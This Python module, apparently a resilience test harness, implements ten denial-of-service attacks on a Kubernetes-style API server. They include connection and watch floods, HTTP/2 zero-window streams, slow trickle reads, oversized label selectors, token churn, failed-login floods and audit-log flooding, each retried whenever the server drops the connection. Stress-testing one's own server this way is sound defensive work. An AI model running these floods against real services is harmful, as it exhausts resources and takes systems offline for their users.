"""Ten attacks. Each is what one connection does repeatedly, as fast as it can."""

import asyncio
import random
import ssl
import struct
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

import orjson

GROUP = "management.service.sh"
APPS = f"/apis/{GROUP}/v1/apps"
KEYS = f"/apis/{GROUP}/v1/ownedaccesskeys"
CONFIGMAPS = "/api/v1/namespaces/default/configmaps"
TOKEN = "/api/v1/namespaces/default/serviceaccounts/mallory/token"
LARGE = f"{CONFIGMAPS}/large"
LOGIN = "/auth/password/login"
MAX_HEAD_BYTES = 1024 * 1024
TRICKLE_BYTES, TRICKLE_SECONDS = 1024, 0.1
STREAMS = 100
TERMS = 400
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS = 4, 1
NO_WINDOW = struct.pack(">HL", 4, 0)
YAML = "\n".join(
    ["apiVersion: v1", "kind: ConfigMap", "metadata: {name: yaml}", "data:"]
    + [f'  key-{number}: "{"value " * 8}"' for number in range(4_000)]
)

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass(frozen=True, slots=True)
class AttackTarget:
    """The server, the two keys of the attacker (with and without permissions), and the counts of responses."""

    host: str
    port: int
    root: str
    tls_contexts: Mapping[str, ssl.SSLContext]
    key: str
    powerless_key: str
    responses: Counter[str] = field(default_factory=Counter)

    def build_request(self, method: str, path: str, key: str | None, body: bytes = b"", **headers: str) -> bytes:
        """Builds a request. `path` is relative to the root, or one of `/auth/`. Without a key for None."""
        target = path if path.startswith("/auth/") else f"{self.root}{path}"
        lines = [f"{method} {target} HTTP/1.1", f"host: {self.host}:{self.port}"]
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        if key is not None:
            lines.append(f"authorization: Bearer {key}")
        if body:
            lines.append(f"content-length: {len(body)}")
        return "\r\n".join([*lines, "", ""]).encode() + body

    @asynccontextmanager
    async def open_connection(self, protocol: str = "http/1.1") -> AsyncIterator[Streams]:
        streams = await asyncio.open_connection(
            self.host, self.port, ssl=self.tls_contexts[protocol], server_hostname=self.host, limit=MAX_HEAD_BYTES
        )
        try:
            yield streams
        finally:
            streams[1].transport.abort()

    async def send(self, streams: Streams, build_request: bytes) -> bytes:
        """Sends a request, counts its status, and returns the body."""
        reader, writer = streams
        writer.write(build_request)
        head = (await reader.readuntil(b"\r\n\r\n")).lower()
        self.responses[head.split(b" ", 2)[1].decode()] += 1
        for line in head.split(b"\r\n"):
            if line.startswith(b"content-length:"):
                return await reader.readexactly(int(line.partition(b":")[2]))
        while size := int(await reader.readuntil(b"\r\n"), 16):
            await reader.readexactly(size + 2)
        await reader.readuntil(b"\r\n")
        return b""


Attack = Callable[[AttackTarget, int], Awaitable[None]]
"""What one of many connections does, given its number."""


async def read_without_permission(target: AttackTarget, number: int) -> None:
    """A user without permissions: half of the connections stay open, the others reconnect for each request."""
    async with target.open_connection() as streams:
        while True:
            await target.send(streams, target.build_request("GET", f"{APPS}/app-000001", target.powerless_key))
            if number % 2:
                return


async def read_large(target: AttackTarget, number: int) -> None:
    async with target.open_connection() as streams:
        while True:
            await target.send(streams, target.build_request("GET", LARGE, target.key))


async def use_yaml(target: AttackTarget, number: int) -> None:
    async with target.open_connection() as streams:
        while True:
            await target.send(
                streams, target.build_request("GET", f"{APPS}?limit=500", target.key, accept="application/yaml")
            )
            body = YAML.encode()
            build_request = target.build_request(
                "POST", f"{CONFIGMAPS}?dryRun=All", target.key, body, content_type="application/yaml"
            )
            await target.send(streams, build_request)


async def list_objects(target: AttackTarget, number: int) -> None:
    async with target.open_connection() as streams:
        while True:
            await target.send(streams, target.build_request("GET", APPS, target.key))


async def watch(target: AttackTarget, number: int) -> None:
    """Half of the watches restart after the first data; the others stay open."""
    async with target.open_connection() as (reader, writer):
        query = "watch=1&resourceVersion=0" if number % 2 else "watch=1"
        writer.write(target.build_request("GET", f"{APPS}?{query}", target.key))
        head = await reader.readuntil(b"\r\n\r\n")
        target.responses[head.split(b" ", 2)[1].decode()] += 1
        while await reader.read(65536):
            if number % 2:
                return


async def create_tokens(target: AttackTarget, number: int) -> None:
    """Creates and deletes access keys, and creates tokens of a service account."""
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 600}}
    key = {"apiVersion": f"{GROUP}/v1", "kind": "OwnedAccessKey", "metadata": {"generateName": "more-"}}
    body = orjson.dumps({**key, "spec": {"user": "mallory"}})
    async with target.open_connection() as streams:
        while True:
            await target.send(
                streams,
                target.build_request("POST", TOKEN, target.key, orjson.dumps(token), content_type="application/json"),
            )
            created = orjson.loads(
                await target.send(
                    streams, target.build_request("POST", KEYS, target.key, body, content_type="application/json")
                )
            )
            if created["kind"] == "OwnedAccessKey":
                await target.send(
                    streams, target.build_request("DELETE", f"{KEYS}/{created['metadata']['name']}", target.key)
                )


async def list_by_selector(target: AttackTarget, number: int) -> None:
    values = ",".join(f"team-x{value}" for value in range(TERMS))
    terms = ",".join(f"label-{term}!=x" for term in range(TERMS))
    queries = (f"team in ({values})", terms, f"team notin ({values})")
    async with target.open_connection() as streams:
        while True:
            for query in queries:
                escaped = query.replace(" ", "%20")
                await target.send(streams, target.build_request("GET", f"{APPS}?labelSelector={escaped}", target.key))


async def read_slowly(target: AttackTarget, number: int) -> None:
    """Either a hundred HTTP/2 responses without a flow-control window, or a long list a few bytes at a time."""
    if number % 2:
        await _open_no_window(target)
        return
    async with target.open_connection() as (reader, writer):
        writer.write(target.build_request("GET", APPS, target.key))
        while await reader.read(TRICKLE_BYTES):
            target.responses["piece"] += 1
            await asyncio.sleep(TRICKLE_SECONDS)


async def _open_no_window(target: AttackTarget) -> None:
    async with target.open_connection("h2") as (reader, writer):
        writer.write(PREFACE + _build_frame(SETTINGS, 0, 0, NO_WINDOW))
        for stream in range(1, 2 * STREAMS, 2):
            writer.write(_build_frame(HEADERS, 5, stream, _encode_get(target)))
        target.responses["h2"] += STREAMS
        while await reader.read(65536):
            pass


def _encode_get(target: AttackTarget) -> bytes:
    """Encodes a GET in HPACK, using only the static table."""
    path = f"{target.root}{LARGE}".encode()
    authority = f"{target.host}:{target.port}".encode()
    key = f"Bearer {target.key}".encode()
    return b"\x82\x87\x04" + _encode_text(path) + b"\x01" + _encode_text(authority) + b"\x0f\x08" + _encode_text(key)


def _encode_text(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes((rest % 128 | 128,))
        rest //= 128
    return length + bytes((rest,)) + value


def _build_frame(type: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((type, flags)) + stream.to_bytes(4, "big") + payload


async def fail_to_log_in(target: AttackTarget, number: int) -> None:
    async with target.open_connection() as streams:
        while True:
            name = "quiet" if number % 4 == 0 else f"user-{random.randrange(10**6)}"
            body = orjson.dumps({"username": name, "password": f"wrong-{random.random()}"})
            await target.send(streams, target.build_request("POST", LOGIN, None, body, content_type="application/json"))


async def fill_audit_log(target: AttackTarget, number: int) -> None:
    """Rejected requests without a key, each of which is a long line in the audit log."""
    path = f"{APPS}?fieldSelector={'x' * 8_000}"
    async with target.open_connection() as streams:
        while True:
            await target.send(streams, target.build_request("GET", path, None, user_agent="y" * 2_000))


ATTACKS: Mapping[str, tuple[int, Attack]] = {
    "connections": (200, read_without_permission),
    "large reads": (32, read_large),
    "YAML": (16, use_yaml),
    "lists": (16, list_objects),
    "watches": (200, watch),
    "tokens": (32, create_tokens),
    "selectors": (16, list_by_selector),
    "slow reads": (32, read_slowly),
    "failing logins": (32, fail_to_log_in),
    "audit floods": (64, fill_audit_log),
}
"""The number of connections and the behaviour of each attack."""


async def repeat_attack(target: AttackTarget, attack: Attack, number: int) -> None:
    """Repeats an attack whenever the server ends its connection."""
    while True:
        with suppress(OSError, EOFError, ValueError, asyncio.LimitOverrunError):
            await attack(target, number)
        await asyncio.sleep(0)
